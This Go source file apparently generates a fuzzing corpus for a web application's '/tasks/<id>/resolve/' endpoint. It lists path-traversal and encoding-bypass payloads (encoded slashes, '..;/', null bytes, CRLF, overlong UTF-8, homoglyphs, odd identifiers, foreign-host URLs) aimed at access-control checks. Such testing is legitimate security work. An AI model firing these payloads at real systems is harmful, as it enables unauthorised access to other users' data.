package corpus

import (
	"fmt"
	"strings"
)

// slashes are what some server or other takes for a slash, or for nothing
// beside one.
var slashes = []string{
	"//", "///", "/./", "/x/../", "/%2e/", "/x/%2e%2e/", "/x%2f../", "/x/..%2f", "%2f", "%2F", "/%2f", "%2f/", "%252f", `\`, "%5c", `/\`, `\/`,
	";/", "/;/", "/;a=b/", "/..;/", "/%20/", "/%00/", "%00/", "/%0a/", "/%09/", "%e2%88%95", "%ef%bc%8f", "%c0%af", ":", "|/",
}

// before is what stands in front of the path: detours through what is served
// from disk, mounts, and other hosts.
var before = []string{
	"/", "//", "/.", "/..", "/./.", "/x/..", "/static/..", "/static/../..", "/static/%2e%2e", "/static/..%2f..", "/static/%2e%2e%2f%2e%2e/static/..", "/static//..",
	"/static/x/../..", "/react-app/..", "/react-app/..;", "/dm/..", "/label-studio-frontend/%2e%2e", "/favicon.ico/..", "/sw.js/..", "/health/..", "/user/login/..",
	"/rolepass/..", "/rolepass/login/..", "/nginx_health/..", "/data/upload/..", "/label", "/api", "/;", "/;x", "/%2f", "/%2e", "/%00", "/%20", "/%0a", "/%3f/..", "/%23/..", `/\`, "/x%5c..",
}

// behind is what follows the path.
var behind = []string{
	"x", ".", "..", "/", "//", "./", "../", "x/..", ".json", "index.html", "%20", "%09", "%0a", "%0d%0a", "%00", "%00x", ";", ";x", ";fileuri=x", "%3b", "%3bx", "%3f", "%23", "%2f", "%5c",
	`\`, "*", "%2e", "%2e%2e", "%2e%2e%2fresolve%2f", "%c2%a0", "%e2%80%8b", "%ff", "+", "~", "!", "@", ",", "'", "$", "=", "&", ":",
}

// paths are one change away from the path of a fetch.
func (f Fetch) paths() []string {
	path := fmt.Sprintf("/tasks/%d/resolve/", f.Task)
	var all []string
	for _, change := range []func(byte) []string{escapes, folded, doubled, dropped, overlong} {
		all = append(all, everyByte(path, change)...)
	}
	for i := range len(path) {
		if path[i] == '/' {
			for _, slash := range slashes {
				all = append(all, path[:i]+slash+path[i+1:])
			}
		}
	}
	for _, prefix := range before {
		all = append(all, prefix+path)
	}
	for _, suffix := range behind {
		all = append(all, path+suffix)
	}
	for _, prefix := range []string{"/static/..%2f", "/static/%2e%2e%2f", "/react-app/..%2F", "/x%2f..%2f", "/x/..%5c", "/"} {
		all = append(all, prefix+strings.ReplaceAll(path[1:], "/", "%2F"), prefix+path[1:])
	}
	for _, id := range f.identifiers() {
		all = append(all, "/tasks/"+id+"/resolve/", "/projects/"+id+"/resolve/")
	}
	for _, verb := range []string{"presign", "PRESIGN", "presigned", "pre%73ign", "resolve;", "resolve.", "resolve%20", "re%C5%BFolve", "r%D0%B5solve", "resolve-uri", "download"} {
		all = append(all, strings.Replace(path, "resolve", verb, 1), strings.Replace(strings.TrimSuffix(path, "/"), "resolve", verb, 1))
	}
	return all
}

// identifiers are other ways to write the task's number, and near misses.
func (f Fetch) identifiers() []string {
	id := fmt.Sprint(f.Task)
	return []string{
		"0" + id, "00" + id, strings.Repeat("0", 30) + id, "+" + id, "%2B" + id, "-" + id, id + ".0", id + ".", id + "e0", "0x" + fmt.Sprintf("%x", f.Task), id + "_", "%20" + id, id + "%20",
		id + "%00", id + ",", id + ";", id + "L", fullwidth(id), "%D9%A3", "1e0", "", "%3" + id[:1], strings.Repeat("9", 25), "18446744073709551617", "9223372036854775808", id + "%0a", "%0a" + id,
	}
}

// fullwidth writes digits as U+FF10 and on, which are digits to some.
func fullwidth(id string) string {
	var b strings.Builder
	for _, digit := range id {
		fmt.Fprintf(&b, "%%EF%%BC%%%02X", 0x90+digit-'0')
	}
	return b.String()
}

// absolute are targets that are more, or less, than a path.
func (f Fetch) absolute(query string) []string {
	path := fmt.Sprintf("/tasks/%d/resolve/", f.Task)
	var all []string
	for _, origin := range []string{
		"http://" + f.Host, "https://" + f.Host, "HTTP://" + f.Host, "http://localhost", "http://other.example", "http://user@" + f.Host, "http://" + f.Host + ":80", "ftp://" + f.Host,
		"//" + f.Host, "//other.example", "", "http:", "http:/", "http://", "http:///", "?", "#", "*",
	} {
		all = append(all, origin+path+query)
	}
	return append(all, "http://"+f.Host+"//tasks", strings.TrimPrefix(path, "/")+query, path+"#"+query, path+query+"#x", path+"?"+query, path+"%3f"+query[1:], path+"#x"+query, path+query+"%23x")
}
